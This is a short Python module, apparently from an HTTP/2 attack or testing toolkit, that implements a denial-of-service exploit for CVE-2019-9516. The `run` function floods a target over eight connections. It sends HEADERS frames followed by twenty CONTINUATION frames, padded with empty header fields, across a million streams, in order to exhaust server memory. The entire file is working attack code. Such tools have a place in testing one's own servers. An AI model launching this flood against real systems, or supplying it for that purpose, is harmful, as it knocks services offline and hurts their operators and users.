"""Header blocks over HTTP/2 that never end, of fields with empty names and values
(CVE-2019-9516, 0-length headers leak)."""

import frames
from attack import Attack

ATTACK = Attack()


async def run(target):
    nothing = b"\x00\x00\x00" * 5000

    def batches():
        for stream in range(1, 1 << 20, 2):
            yield frames.frame(frames.HEADERS, 0, stream, frames.head() + nothing) + b"".join(
                frames.frame(frames.CONTINUATION, 0, stream, nothing) for _ in range(20))

    return await target.flood(8, frames.opening(), batches)
